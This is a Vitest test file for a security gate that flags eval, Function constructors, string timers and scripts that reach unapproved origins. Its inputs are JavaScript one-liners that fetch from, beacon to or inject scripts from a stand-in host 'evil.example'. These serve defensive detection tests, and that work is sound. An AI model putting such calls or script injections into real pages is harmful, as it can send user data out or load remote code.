import { describe, expect, it } from "vitest"
import { imageAccount } from "../../../test/corpus/judge.ts"
import { gate } from "../gate.ts"
import type { GateContext } from "../verdict.ts"

const site: GateContext = { kind: "script", route: "/", partials: new Set(), imageAccount }

describe("scripts that ask for what the security policy refuses", () => {
  const open = { allowedOrigins: new Set(["https://api.example"]) }
  const told = (js: string, context: Partial<GateContext> = open) => {
    const verdict = gate({ js }, { ...site, ...context })
    return verdict.ok
      ? verdict.warnings.map(({ code, by, origin, line, column }) => `${line}:${column} ${code} ${by ?? origin}`)
      : "refused"
  }
  const elsewhere = "https://evil.example"

  it.each<[string, ReadonlyArray<string>]>([
    [
      'eval("1");fetch("https://evil.example")',
      ["1:1 js.code_from_text eval", `1:11 js.origin_not_approved ${elsewhere}`]
    ],
    ["\n window.eval(x)", ["2:2 js.code_from_text eval"]],
    ['new Function("a", "return a")', ["1:1 js.code_from_text new Function"]],
    ['Function("return 1")()', ["1:1 js.code_from_text Function"]],
    [
      'setTimeout("go()", 9); setInterval(`go()`, 9)',
      ["1:1 js.code_from_text setTimeout", "1:24 js.code_from_text setInterval"]
    ],
    ['const code = "go()"; setTimeout(code)', ["1:22 js.code_from_text setTimeout"]],
    ['fetch("//evil.example/x?y")', [`1:1 js.origin_not_approved ${elsewhere}`]],
    ["fetch(`https://evil.example/${id}`)", [`1:1 js.origin_not_approved ${elsewhere}`]],
    ['fetch("https://evil.example/" + id + "/x")', [`1:1 js.origin_not_approved ${elsewhere}`]],
    ['const api = "https://evil.example"; f(() => fetch(`${api}/x`))', [`1:45 js.origin_not_approved ${elsewhere}`]],
    ['const host = "evil.example"; fetch("https://" + host + "/" + id)', [`1:30 js.origin_not_approved ${elsewhere}`]],
    ['const api = "https://evil.example/v1"; f(() => fetch(`${api}/x`))', [`1:48 js.origin_not_approved ${elsewhere}`]],
    ['fetch(new URL("/x", "https://evil.example"))', [`1:1 js.origin_not_approved ${elsewhere}`]],
    [
      'const r = new XMLHttpRequest(); r.open("GET", "https://evil.example/x")',
      [`1:33 js.origin_not_approved ${elsewhere}`]
    ],
    ['new WebSocket("wss://evil.example/live")', ["1:1 js.origin_not_approved wss://evil.example"]],
    ['new EventSource("https://evil.example")', [`1:1 js.origin_not_approved ${elsewhere}`]],
    ['navigator.sendBeacon("https://evil.example", x)', [`1:1 js.origin_not_approved ${elsewhere}`]],
    ['import("https://api.example/m.js")', ["1:1 js.import_offsite https://api.example"]],
    [
      'const s = document.createElement("script"); s.src = "https://evil.example/widget"; document.head.append(s)',
      [`1:45 js.import_offsite ${elsewhere}`]
    ],
    [
      'let t; t = d.createElement("SCRIPT"); t.setAttribute("src", "//evil.example")',
      [`1:39 js.import_offsite ${elsewhere}`]
    ],
    [
      '(function(w,d,s,l,i){var j=d.createElement(s);j.src="https://www.googletagmanager.com/gtm.js?id="+i})(window,document,"script","dataLayer","GTM-1")',
      ["1:47 js.import_offsite https://www.googletagmanager.com"]
    ],
    ["n.src = `https://evil.example/gtag/js?id=${id}`", [`1:1 js.import_offsite ${elsewhere}`]],
    ['fetch("https://evil.example/a"); fetch("https://evil.example/b")', [`1:1 js.origin_not_approved ${elsewhere}`]]
  ])("are told of it: %s", (js, expected) => expect(told(js)).toEqual(expected))

  it.each([
    'fetch("/__data/address?q=1")',
    'fetch("https://api.example/v1")',
    "fetch(address)",
    "fetch(`${base}https://evil.example`)",
    'fetch("https://" + host)',
    "setTimeout(go, 9); setInterval(() => go(), 9)",
    'import("/m.js")',
    'open("https://evil.example"); dialog.open("https://evil.example")',
    'game.eval("x"); parser.Function("x"); link.href = "https://evil.example"',
    'let api = "https://evil.example"; fetch(api)',
    'const s = document.createElement("script"); s.src = "/media/med_a"; s.dataset.src = address',
    'const i = new Image(); i.src = "https://evil.example/a.png"; i.setAttribute("data-src", "https://evil.example/a.js")'
  ])("are no others, and none of what a parse does not show: %s", (js) => expect(told(js)).toEqual([]))

  it("are told of no connection where nobody looked what is approved", () => {
    expect(told('fetch("https://evil.example"); eval("1")', {})).toEqual(["1:32 js.code_from_text eval"])
  })

  it("say what to do about it", () => {
    const verdict = gate({ js: 'new WebSocket("wss://api.example")' }, { ...site, ...open })
    expect(verdict.ok && verdict.warnings[0]?.detail).toContain("Only https origins can be approved")
    const measured = gate({ js: 's.src = "https://connect.facebook.net/en_US/fbevents.js"' }, { ...site, ...open })
    expect(measured.ok && measured.warnings[0]?.detail).toContain("PUT /v1/site")
  })
})
